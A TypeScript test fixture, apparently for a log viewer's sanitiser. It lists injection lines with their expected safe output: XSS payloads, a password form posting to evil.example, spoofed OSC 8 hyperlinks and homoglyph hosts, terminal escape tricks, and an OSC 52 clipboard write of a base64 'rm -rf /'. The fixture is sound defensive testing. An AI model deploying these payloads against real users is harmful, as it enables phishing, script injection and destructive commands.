/**
 * Lines with which a container may try to deceive its reader, each with the text that must be shown. `E` is ESC. Each
 * is also drawn into a document, which must then hold no element, attribute or address that the viewer did not create.
 */
const E = "\u001b";
const ST = `${E}\\`;

export interface Attack {
  readonly name: string;
  readonly line: string;
  /** The exact text that must remain. */
  readonly reads: string;
  /** Targets of links, in order; none when absent. */
  readonly links?: readonly string[];
  /** Hosts shown for hyperlinks, in order; none when absent. */
  readonly leads?: readonly string[];
}

export const ATTACKS: readonly Attack[] = [
  // Markup
  ...(
    [
      ["a script element", "<script>alert(1)</script>"],
      ["a script that ends the page's", "</script><script>alert(1)</script>"],
      ["an image's error handler", '<img src=x onerror="alert(1)">'],
      ["an SVG's load handler", "<svg/onload=alert(1)>"],
      ["an attribute's end", `" onmouseover="alert(1)" x="`],
      ["an attribute's end in single quotes", "' autofocus onfocus=alert(1) x='"],
      ["a style element", "<style>*{display:none}</style>"],
      ["a base element", '<base href="https://evil.example/">'],
      ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
      ["a frame with a document", `<iframe srcdoc="<script>parent.alert(1)</script>">`],
      ["a form over the page", '<form action="https://evil.example/"><input name=password autofocus>'],
      ["an end of text area and title", "</textarea></title><script>alert(1)</script>"],
      ["a comment that never ends", "<!-- hidden"],
      ["CDATA", "<![CDATA[<script>alert(1)</script>]]>"],
      ["a template with a shadow root", "<template shadowrootmode=open><script>alert(1)</script></template>"],
      ["character references", "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#62; &amp;"],
      ["a template literal", "${alert(1)} {{constructor.constructor('alert(1)')()}}"],
      ["a mutation of namespaces", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
      ["an object of a prototype", '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'],
      ["a format string", "%s %n %x %c color:red"],
    ] as const
  ).map(([name, line]) => ({
    name,
    line,
    reads: line,
    ...(line.includes("https://evil.example/") ? { links: ["https://evil.example/"] } : {}),
  })),
  {
    name: "markup between escapes",
    line: `<scr${E}[0mipt>alert(1)</scr${E}[0mipt>`,
    reads: "<script>alert(1)</script>",
  },
  { name: "markup that carriage returns make", line: "XscriptY\r<", reads: "<scriptY" },
  {
    name: "an image in a coloured span",
    line: `${E}[31m<img src=x onerror=alert(1)>${E}[0m`,
    reads: "<img src=x onerror=alert(1)>",
  },
  {
    name: "style in a colour's numbers",
    line: `${E}[38;2;255;0;0;url(javascript:alert(1))mred`,
    reads: "rl(javascript:alert(1))mred",
  },

  // Links in text
  { name: "a javascript address", line: "javascript:alert(1)", reads: "javascript:alert(1)" },
  {
    name: "a javascript address with slashes",
    line: "javascript://https://%0aalert(1)",
    reads: "javascript://https://%0aalert(1)",
  },
  {
    name: "a data address",
    line: "data:text/html,<script>alert(1)</script>",
    reads: "data:text/html,<script>alert(1)</script>",
  },
  { name: "a vbscript address", line: "vbscript:msgbox(1)", reads: "vbscript:msgbox(1)" },
  { name: "a file address", line: "file:///etc/passwd", reads: "file:///etc/passwd" },
  {
    name: "a blob address",
    line: "blob:https://logferry.example/1234",
    reads: "blob:https://logferry.example/1234",
    links: ["https://logferry.example/1234"],
  },
  { name: "an address without a scheme", line: "//evil.example/x", reads: "//evil.example/x" },
  {
    name: "an address with a name that looks like a site",
    line: "https://bank.example@evil.example/",
    reads: "https://bank.example@evil.example/",
  },
  {
    name: "an address with a password",
    line: "see https://user:secret@evil.example/ now",
    reads: "see https://user:secret@evil.example/ now",
  },
  {
    name: "an address in quotes with an attribute after it",
    line: `https://ok.example/"onclick="alert(1)`,
    reads: `https://ok.example/"onclick="alert(1)`,
    links: ["https://ok.example/"],
  },
  {
    name: "an address with markup after it",
    line: "https://ok.example/<script>alert(1)</script>",
    reads: "https://ok.example/<script>alert(1)</script>",
    links: ["https://ok.example/"],
  },
  {
    name: "an address with a backslash",
    line: "https://bank.example\\@evil.example/",
    reads: "https://bank.example\\@evil.example/",
    links: ["https://bank.example/"],
  },
  {
    name: "an address that a carriage return rewrites",
    line: "https://evil.example/\rhttps://good.example/",
    reads: "https://good.example/",
    links: ["https://good.example/"],
  },
  {
    name: "an address that is far too long",
    line: `https://evil.example/${"a".repeat(3000)}`,
    reads: `https://evil.example/${"a".repeat(3000)}`,
  },

  // Hyperlinks (OSC 8)
  { name: "a hyperlink to javascript", line: `${E}]8;;javascript:alert(1)${ST}click${E}]8;;${ST}`, reads: "click" },
  {
    name: "a hyperlink to javascript in another case, spaces before it",
    line: `${E}]8;; JaVaScRiPt:alert(1)${ST}click${E}]8;;${ST}`,
    reads: "click",
  },
  {
    name: "a hyperlink to data",
    line: `${E}]8;;data:text/html;base64,PHNjcmlwdD4=\u0007click${E}]8;;\u0007`,
    reads: "click",
  },
  { name: "a hyperlink to a file", line: `${E}]8;;file:///etc/passwd${ST}click${E}]8;;${ST}`, reads: "click" },
  {
    name: "a hyperlink with credentials",
    line: `${E}]8;;https://bank.example@evil.example/${ST}click${E}]8;;${ST}`,
    reads: "click",
  },
  {
    name: "a hyperlink whose text is another site's address",
    line: `${E}]8;;https://evil.example/${ST}https://bank.example/login${E}]8;;${ST}`,
    reads: "https://bank.example/login",
    links: ["https://bank.example/login"],
  },
  {
    name: "the same in two colours",
    line: `${E}]8;;https://evil.example/${ST}https://ba${E}[1mnk.example/${E}]8;;${ST}`,
    reads: "https://bank.example/",
    links: ["https://bank.example/", "https://bank.example/"],
  },
  {
    name: "a hyperlink whose text is another site's name",
    line: `${E}]8;;https://evil.example/${ST}www.bank.com${E}]8;;${ST}`,
    reads: "www.bank.com",
  },
  {
    name: "a hyperlink with an attribute in it",
    line: `${E}]8;;https://ok.example/"onclick="alert(1)${ST}click${E}]8;;${ST}`,
    reads: "click",
    links: ["https://ok.example/%22onclick=%22alert(1)"],
    leads: ["ok.example"],
  },
  {
    name: "a hyperlink that is never closed",
    line: `${E}]8;;https://ok.example/${ST}click`,
    reads: "click",
    links: ["https://ok.example/"],
    leads: ["ok.example"],
  },
  {
    name: "an honest hyperlink",
    line: `see ${E}]8;id=1;https://ok.example/a?b=c#d${ST}the report.html${E}]8;;${ST}.`,
    reads: "see the report.html.",
    links: ["https://ok.example/a?b=c#d"],
    leads: ["ok.example"],
  },
  {
    name: "a hyperlink whose text is its own address",
    line: `${E}]8;;https://www.ok.example/a${ST}ok.example/a${E}]8;;${ST}`,
    reads: "ok.example/a",
    links: ["https://www.ok.example/a"],
  },
  ...(
    [
      ["another site's name in a country's domain", "amazon.de"],
      ["the beginning of where it leads", "evil"],
      ["its own host with another one's name before it", "amazon.de evil.example"],
      ["its own host as the end of another name", "not-evil.example"],
      ["its own host as the beginning of another name", "evil.example.shop.de"],
      ["a name in letters that look like others", "\u0430mazon.de"],
      ["a name with a dot that is none", "amazon\u2024de"],
      ["nothing but a space", " "],
    ] as const
  ).map(([name, shown]) => ({
    name: `a hyperlink whose text is ${name}`,
    line: `${E}]8;;https://evil.example/${ST}${shown}${E}]8;;${ST}`,
    reads: shown,
    links: ["https://evil.example/"],
    leads: ["evil.example"],
  })),
  {
    name: "a hyperlink in two colours whose text says no host",
    line: `${E}]8;;https://evil.example/${ST}ama${E}[1mzon.de${E}]8;;${ST}.`,
    reads: "amazon.de.",
    links: ["https://evil.example/", "https://evil.example/"],
    leads: ["evil.example"],
  },
  {
    name: "a hyperlink whose text holds its address",
    line: `${E}]8;;https://evil.example/${ST}pay at https://evil.example/ now${E}]8;;${ST}`,
    reads: "pay at https://evil.example/ now",
    links: ["https://evil.example/", "https://evil.example/", "https://evil.example/"],
    leads: ["evil.example"],
  },

  // Terminal tricks
  { name: "text made black on black", line: `${E}[30;40mhidden${E}[0m shown`, reads: "hidden shown" },
  { name: "text concealed", line: `${E}[8mhidden${E}[28m shown`, reads: "hidden shown" },
  {
    name: "text in the page's own colours",
    line: `${E}[38;2;255;255;255mlight${E}[38;2;15;19;24mdark`,
    reads: "lightdark",
  },
  { name: "a window title", line: `${E}]0;root@bank\u0007done`, reads: "done" },
  { name: "a write to the clipboard", line: `${E}]52;c;cm0gLXJmIC8=\u0007done`, reads: "done" },
  { name: "a change of the palette", line: `${E}]4;1;rgb:00/00/00${ST}done`, reads: "done" },
  {
    name: "an operating system command that never ends",
    line: `${E}]0;everything after this`,
    reads: "0;everything after this",
  },
  {
    name: "a device control string that never ends",
    line: `${E}P everything after this`,
    reads: " everything after this",
  },
  { name: "a sixel image", line: `${E}Pq#0;2;0;0;0#0~~@@${ST}done`, reads: "done" },
  { name: "a kitty image", line: `${E}_Gf=100;AAAA${ST}done`, reads: "done" },
  { name: "an iTerm file download", line: `${E}]1337;File=name=eC5zaA==;inline=0:ZXZpbA==\u0007done`, reads: "done" },
  { name: "a question that the terminal answers", line: `${E}[6n${E}[c${E}[>c${E}[5n${E}Zdone`, reads: "done" },
  { name: "the alternate screen and mouse reports", line: `${E}[?1049h${E}[?1003h${E}[?25ldone`, reads: "done" },
  { name: "keypad mode, as shells leave it", line: `${E}[?1h${E}=done${E}[?2004h`, reads: "done" },
  { name: "the screen cleared and the cursor home", line: `failed${E}[2J${E}[3J${E}[H ok`, reads: "failed ok" },
  { name: "the lines above overwritten", line: `${E}[5A${E}[2Kall is well`, reads: "all is well" },
  { name: "a scroll region and insertions of lines", line: `${E}[1;2r${E}[50L${E}[50Mdone`, reads: "done" },
  { name: "a reset of the terminal", line: `${E}[31m${E}cdone`, reads: "done" },
  { name: "another character set", line: `${E}(0lqqk${E}(B done`, reads: "lqqk done" },
  { name: "shift out", line: "a\u000eb\u000fc", reads: "abc" },
  { name: "the word error taken back letter by letter", line: "error\b\b\b\b\bok   ", reads: "ok   " },
  { name: "a line erased", line: `secret${E}[2K\rdone`, reads: "done" },
  { name: "C1 controls in eight bits", line: "a\u009b31mb\u009d0;title\u009cc", reads: "a31mb0;titlec" },
  { name: "bells, nulls and deletes", line: "a\u0007\u0000\u007fb", reads: "ab" },
  { name: "text turned round", line: "access \u202eterces\u202c granted", reads: "access \ufffdterces\ufffd granted" },
  { name: "isolates that hide a comment's end", line: "a \u2066b\u2069 c", reads: "a \ufffdb\ufffd c" },
  {
    name: "a forged second row by a line separator",
    line: "ok\u20282026-11-24 root logged in",
    reads: "ok\ufffd2026-11-24 root logged in",
  },
  { name: "a line feed, in one row", line: "ok\nERROR forged", reads: "ok\nERROR forged" },
  { name: "a vertical tab and a form feed", line: "a\u000b\u000cb", reads: "ab" },
  { name: "an escape in an escape", line: `${E}${E}[31mred`, reads: "red" },
  { name: "an escape at the end", line: `done${E}`, reads: "done" },
  { name: "half a sequence at the end", line: `done${E}[38;2`, reads: "done38;2" },
  {
    name: "a colour out of every range",
    line: `${E}[38;5;99999m${E}[38;2;999;-1;1e9mtext`,
    reads: "38;2;999;-1;1e9mtext",
  },
  { name: "half a surrogate pair", line: "a\ud83d b", reads: "a\ud83d b" },
];
